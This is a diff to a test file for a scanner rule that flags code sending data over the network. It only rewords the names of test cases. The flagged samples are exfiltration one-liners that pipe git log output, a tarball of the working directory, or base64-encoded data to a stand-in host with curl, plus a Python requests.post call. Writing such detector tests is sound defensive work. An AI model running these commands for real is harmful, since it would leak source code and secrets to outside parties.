@@ -4,23 +4,23 @@ import { networkSend } from './network-send.ts';
 ruleCases(networkSend, {
   hits: [
     {
-      name: 'what a command prints',
+      name: 'the output of a command',
       path: 'a.sh',
       text: 'curl -d "$(git log)" https://x.example/in\n',
     },
     {
-      name: 'what is piped',
+      name: 'piped input',
       path: 'a.sh',
       text: 'tar cz . | curl --data-binary @- https://x.example\n',
     },
     {
-      name: 'a whole message in another writing, as high',
+      name: 'a whole encoded message, rated high',
       path: 'a.sh',
       text: 'echo "$x" | base64 | curl -d @- https://x.example\n',
       severity: 'high',
     },
     {
-      name: 'a value of a program, as information',
+      name: 'a value from a program, rated as information',
       path: 'a.py',
       text: 'import requests\nrequests.post("https://x.example", json=data)\n',
       severity: 'info',
@@ -29,12 +29,12 @@ ruleCases(networkSend, {
   misses: [
     { name: 'a question without a body', path: 'a.sh', text: 'curl -s https://x.example/a.json\n' },
     {
-      name: 'words that stand there',
+      name: 'words that are present',
       path: 'a.sh',
       text: 'curl -d \'{"a": 1}\' https://x.example\n',
     },
     {
-      name: 'a server of this machine',
+      name: 'a server on this machine',
       path: 'a.sh',
       text: 'curl -d "$(cat a.json)" http://localhost:3000\n',
     },
